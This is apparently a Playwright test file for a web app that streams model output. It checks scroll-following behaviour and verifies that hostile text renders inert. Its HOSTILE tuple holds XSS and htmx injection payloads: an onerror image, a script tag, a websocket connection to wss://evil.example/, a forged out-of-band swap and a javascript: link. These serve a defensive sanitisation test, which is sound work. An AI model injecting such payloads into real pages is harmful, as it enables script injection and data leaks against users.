"""Streaming text: it stays at its end unless someone reads above, and it can do nothing but be read."""

from __future__ import annotations

from collections.abc import AsyncIterator

import pytest
import pytest_asyncio
from playwright.async_api import Locator

from tests.browser.conftest import Backends
from tests.browser.stage import RUN_MS, SLOW, Stage
from tests.upstreams.exchange import Exchange
from tests.upstreams.scripted import SCENARIOS, Upstream, scripted_upstream

ACTIVE = "img, script, form, input, iframe, style, [style], [id], [onerror], [hx-get]"
HOSTILE = (
    '<img src="/x" onerror="document.title=1">',
    "<script>document.title=1</script>",
    '<div hx-get="/healthz" hx-trigger="load" ws-connect="wss://evil.example/">bait</div>',
    '<p id="verdict" hx-swap-oob="true">forged</p>',
    '<form ws-send><input name="action" value="stop"></form>',
    '{"type":"end","lane":"a1"}\n\n',
    "[link](javascript:document.title=1) ![picture](https://evil.example/p.png)\n\n",
    "<b onmouseover=x style='position:fixed'>bold</b> **strong**",
)
UNBROKEN = tuple(f"word{number} " for number in range(1000))  # some 9,000 characters without the end of a line
# How much of the pane's width the last line of each block fills.
LAST_LINES = """
(blocks) => blocks.map((block) => {
  const range = document.createRange();
  range.selectNodeContents(block);
  const last = [...range.getClientRects()].at(-1);
  return (last.right - block.getBoundingClientRect().left) / block.clientWidth;
})
"""
FROM_END = "(pane) => pane.scrollHeight - pane.scrollTop - pane.clientHeight"
# The pane can be scrolled by hand, and the browser's other threads have had three display frames to learn of it.
IN_HAND = """
(pane) => new Promise((resolve) => {
  let frames = 0;
  const look = () => {
    frames = getComputedStyle(pane).overflowY === "auto" ? frames + 1 : 0;
    if (frames > 3) resolve(true); else requestAnimationFrame(look);
  };
  look();
})
"""
GROWN = "([pane, length]) => pane.textContent.length > length + 500"


async def hostile(x: Exchange) -> None:
    await x.begin()
    await x.tokens(HOSTILE, key="reasoning_content")
    await x.tokens(HOSTILE)
    await x.finish(len(HOSTILE))
    await x.end()


async def unbroken(x: Exchange) -> None:
    await x.begin()
    await x.tokens(UNBROKEN)
    await x.finish(len(UNBROKEN))
    await x.end()


@pytest_asyncio.fixture(loop_scope="session")
async def upstream(monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[Upstream]:
    monkeypatch.setitem(SCENARIOS, "hostile", hostile)
    monkeypatch.setitem(SCENARIOS, "unbroken", unbroken)
    async with scripted_upstream() as upstream:
        yield upstream


async def test_text_stays_at_its_end_while_it_streams(stage: Stage) -> None:
    await stage.open(SLOW, max_tokens=200)
    await stage.run()
    pane = stage.lane(0).card.locator(".lane-text")
    await stage.finished()
    assert await pane.evaluate("(pane) => pane.scrollHeight > pane.clientHeight")
    assert await pane.evaluate(FROM_END) < 2


class Reader:
    """Somebody at the text of the first lane, whose backend goes on and on."""

    def __init__(self, stage: Stage, pane: Locator) -> None:
        self.page, self.pane = stage.page, pane

    async def wheel(self, by: int) -> None:
        await self.page.mouse.wheel(0, by)

    async def key(self, name: str) -> None:
        await self.page.keyboard.press(name)

    async def until(self, true: str) -> None:
        await self.page.wait_for_function(true, arg=await self.pane.element_handle())

    async def more_has_come(self) -> None:
        """Wait for ten lines more, which is enough to tell a text that follows its end from one that does not."""
        length = len(await self.pane.text_content() or "")
        await self.page.wait_for_function(GROWN, arg=[await self.pane.element_handle(), length])

    async def follows(self) -> bool:
        await self.more_has_come()
        return bool(await self.pane.evaluate(FROM_END) < 40)


@pytest_asyncio.fixture(loop_scope="session")
async def reader(stage: Stage, endless: str) -> AsyncIterator[Reader]:
    await stage.open(endless)
    await stage.run()
    reader = Reader(stage, stage.lane(0).card.locator(".lane-text"))
    await reader.until("(pane) => pane.scrollHeight > 3 * pane.clientHeight")
    await reader.pane.hover()
    await reader.until(IN_HAND)
    yield reader
    await stage.page.keyboard.press("Escape")
    await stage.finished()


async def test_text_stays_at_its_end_when_its_box_changes_after_it_has_ended(stage: Stage) -> None:
    await stage.page.set_viewport_size({"width": 1280, "height": 840})
    await stage.open(SLOW, max_tokens=200)
    await stage.race()
    pane = stage.lane(0).card.locator(".lane-text")
    before = await pane.evaluate("(pane) => pane.clientHeight")
    await stage.page.set_viewport_size({"width": 1280, "height": 730})
    await stage.page.wait_for_function(
        "([pane, was]) => pane.clientHeight < was", arg=[await pane.element_handle(), before]
    )
    await stage.page.wait_for_function(f"(pane) => ({FROM_END})(pane) < 2", arg=await pane.element_handle())


async def test_text_stays_where_someone_reads_and_follows_again_once_they_are_back(reader: Reader) -> None:
    assert await reader.follows()
    await reader.wheel(-100_000)
    assert not await reader.follows()
    top = await reader.pane.evaluate("(pane) => pane.scrollTop")
    await reader.more_has_come()
    assert await reader.pane.evaluate("(pane) => pane.scrollTop") == top
    await reader.wheel(100_000)
    await reader.until(f"(pane) => ({FROM_END})(pane) < 24")
    assert await reader.follows(), "it follows again once they are back"


async def test_text_can_be_left_by_steps_smaller_than_a_line(reader: Reader) -> None:
    for _ in range(4):
        await reader.wheel(-5)
    assert not await reader.follows()


async def test_text_can_be_left_and_followed_again_by_keys(reader: Reader) -> None:
    await reader.pane.focus()
    for away in ("ArrowUp", "PageUp", "Home"):
        await reader.key(away)
        assert not await reader.follows(), away
        await reader.key("End")
        await reader.until(f"(pane) => ({FROM_END})(pane) < 24")
        assert await reader.follows(), "it follows again once they are back"


@pytest.mark.parametrize("hand", ['KeyboardEvent("keydown", {key: "End"})', 'WheelEvent("wheel", {deltaY: 100})'])
async def test_what_is_left_of_a_glide_to_the_end_does_not_leave_it(reader: Reader, hand: str) -> None:
    fallen_back = f"(pane) => {{ pane.dispatchEvent(new {hand}); pane.scrollTop -= 60; }}"
    await reader.pane.evaluate(fallen_back)
    assert await reader.follows()


async def test_a_models_words_can_do_nothing_on_the_page(stage: Stage, backend: Backends, upstream: Upstream) -> None:
    asked: list[str] = []
    stage.page.on("request", lambda request: asked.append(request.url))
    stage.page.on("websocket", lambda socket: asked.append(socket.url))
    await stage.open(backend("browser-hostile", "hostile", upstream.url))
    before = len(asked)
    await stage.race()
    await stage.page.wait_for_timeout(300)
    assert asked[before:] == [], "nothing was fetched"
    assert "Splitsecond" in await stage.page.title()
    assert "forged" not in await stage.verdict()
    answer = stage.lane(0).card.locator(".answer")
    assert await answer.locator(ACTIVE).count() == 0
    assert await answer.locator('a[href^="javascript"]').count() == 0
    assert await answer.locator("strong").count() == 1, "Markdown itself is rendered"


async def test_replayed_text_is_plain_too(stage: Stage, backend: Backends, upstream: Upstream) -> None:
    await stage.open(backend("browser-hostile-2", "hostile", upstream.url))
    await stage.race()
    await stage.page.keyboard.press("p")
    replayed = stage.lane(0).card.locator(".replay-text")
    assert "<script>" in (await replayed.text_content() or "")
    assert await replayed.locator("img, script, form").count() == 0


async def test_a_long_text_without_line_ends_is_cut_where_it_wraps_and_loses_nothing(
    stage: Stage, backend: Backends, upstream: Upstream
) -> None:
    await stage.open(backend("browser-unbroken", "unbroken", upstream.url))
    await stage.race()
    await stage.page.select_option("#replay-speed", "1")
    await stage.page.click("#replay")
    await stage.page.wait_for_selector('#replay[data-playing="false"]', timeout=RUN_MS)
    blocks = stage.lane(0).card.locator(".replay-text .block")
    texts = await blocks.all_text_contents()
    assert len(texts) > 3
    assert "".join(texts) == "".join(UNBROKEN)
    widths = await blocks.evaluate_all(LAST_LINES)
    assert min(widths[:-1]) > 0.6, "every block but the last ends with a full line"


async def test_a_table_or_code_wider_than_its_lane_scrolls_inside_it(stage: Stage) -> None:
    await stage.open()
    await stage.page.keyboard.press("5")
    await stage.page.wait_for_selector('#scenario-code[aria-pressed="true"]')
    await stage.race()
    wide = await stage.page.evaluate("document.documentElement.scrollWidth - innerWidth")
    assert wide <= 0
    assert await stage.page.locator(".answer pre").count() >= 4
